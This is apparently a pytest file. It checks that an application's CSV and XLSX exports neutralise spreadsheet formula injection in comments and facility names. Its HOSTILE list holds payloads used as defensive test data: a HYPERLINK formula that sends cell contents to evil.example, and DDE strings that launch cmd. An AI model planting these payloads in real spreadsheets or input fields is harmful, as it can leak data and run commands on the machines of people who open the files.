"""Issue 11 hole 9: no CSV/XLSX export ever carries a live formula.

Comments and names come from packages and CLUES files, so they are an outsider's text: a
cell starting with ``= + - @``, a tab or a carriage return must reach Excel as text. Each
test reads the written file back (openpyxl for XLSX: no cell of type ``f``; the CSV text
itself) and checks that numbers, negative ones included, are still numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.models.facility import Facility
from app.services.files.value_files import export_values, import_values, write_template
from app.services.national.national_export import export_national
from app.storage import facilities_repo
from app.storage.tabular import neutralise_csv, table_bytes, write_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Ver detalle")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HEADERS = ["texto", "entero", "decimal"]


def _rows() -> list[list[object]]:
    return [[text, -5, -2.5] for text in HOSTILE] + [["normal", 7, 0.25]]


def _xlsx_cells(data: bytes) -> list[list]:
    book = load_workbook(io.BytesIO(data))
    return [list(row) for sheet in book.worksheets for row in sheet.iter_rows()]


def _assert_no_formula(cells: list[list]) -> None:
    formulas = [(c.coordinate, c.value) for row in cells for c in row if c.data_type == "f"]
    assert formulas == []


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("ext", [".xlsx", ".csv"])
def test_write_table_and_table_bytes_never_write_a_formula(tmp_path: Path, ext: str):
    path = tmp_path / f"salida{ext}"
    write_table(path, HEADERS, _rows())
    for data in (path.read_bytes(), table_bytes(HEADERS, _rows(), ext)):
        if ext == ".xlsx":
            cells = _xlsx_cells(data)
            _assert_no_formula(cells)
            body = cells[1:]
            # The text is kept exactly (it imports back unchanged), stored as text with
            # Excel's quote prefix so that editing the cell does not turn it into a formula.
            assert [row[0].value for row in body] == [*HOSTILE, "normal"]
            assert all(row[0].data_type == "s" for row in body)
            assert all(row[0].quotePrefix for row in body[:-1])
            assert [(row[1].value, row[1].data_type) for row in body] == [(-5, "n")] * 6 + [(7, "n")]
            assert [row[2].value for row in body] == [-2.5] * 6 + [0.25]
        else:
            rows = _csv_rows(data.decode("utf-8"))
            assert [r[0] for r in rows[1:]] == [f"'{t}" for t in HOSTILE] + ["normal"]
            assert [r[1:] for r in rows[1:]] == [["-5", "-2.5"]] * 6 + [["7", "0.25"]]


def test_neutralise_csv_leaves_numbers_and_plain_text_alone():
    assert neutralise_csv(-5) == -5 and neutralise_csv(-2.5) == -2.5 and neutralise_csv(None) is None
    assert neutralise_csv("Centro de Salud") == "Centro de Salud"
    assert neutralise_csv("") == ""
    assert [neutralise_csv(t) for t in ("=1", "+1", "-1", "@a", "\tx", "\rx")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
    ]


def _hostile_workspace(small_ws, tmp_path: Path):
    """Values whose comments, and a facility whose name, an outsider wrote."""
    with small_ws.db.atomic():
        facilities_repo.upsert_facilities(
            small_ws.conn,
            [Facility("NTSSA000003", '=HYPERLINK("http://evil.example","Clic")', "18", "CSR", 1, "@Jala")],
            "2023-01-01T00:00:00+00:00",
        )
    source = tmp_path / "valores.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["org_unit", "period", "variable", "disaggregation", "value", "comment"])
        writer.writerow(["NTSSA000001", "202302", "consultas_especialidad", "", "1234", HOSTILE[0]])
        writer.writerow(["NTSSA000003", "202302", "consultas_especialidad", "", "12", "-1 revisar"])
    import_values(small_ws, source)
    return small_ws


def test_value_export_csv_and_xlsx(small_ws, tmp_path: Path):
    ws = _hostile_workspace(small_ws, tmp_path)
    export_values(ws, tmp_path / "v.xlsx", "xlsx")
    cells = _xlsx_cells((tmp_path / "v.xlsx").read_bytes())
    _assert_no_formula(cells)
    comments = {row[0].value: (row[4].value, row[5].value) for row in cells[1:]}
    assert comments["NTSSA000001"] == (1234, HOSTILE[0])
    export_values(ws, tmp_path / "v.csv", "csv")
    rows = _csv_rows((tmp_path / "v.csv").read_text("utf-8"))
    assert {r[0]: r[5] for r in rows[1:]} == {"NTSSA000001": "'" + HOSTILE[0], "NTSSA000003": "'-1 revisar"}
    assert {r[0]: r[4] for r in rows[1:]} == {"NTSSA000001": "1234", "NTSSA000003": "12"}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_national_export(small_ws, tmp_path: Path, fmt: str):
    ws = _hostile_workspace(small_ws, tmp_path)
    out = tmp_path / f"nacional.{fmt}"
    export_national(ws, fmt, out)
    if fmt == "xlsx":
        cells = _xlsx_cells(out.read_bytes())
        _assert_no_formula(cells)
        names = [c.value for row in cells for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
        assert names and all(n.startswith("=") for n in names)  # kept as text, exactly
    else:
        text = out.read_text("utf-8")
        assert "'=HYPERLINK" in text and "'-1 revisar" in text
        assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text


def test_template_with_a_hostile_facility_name(small_ws, tmp_path: Path):
    ws = _hostile_workspace(small_ws, tmp_path)
    out = write_template(ws, "18", "202302", tmp_path / "plantilla.xlsx")
    cells = _xlsx_cells(out.read_bytes())
    _assert_no_formula(cells)
    texts = [c.value for row in cells for c in row if c.value in ('=HYPERLINK("http://evil.example","Clic")', "@Jala")]
    assert set(texts) == {'=HYPERLINK("http://evil.example","Clic")', "@Jala"}  # on every section sheet
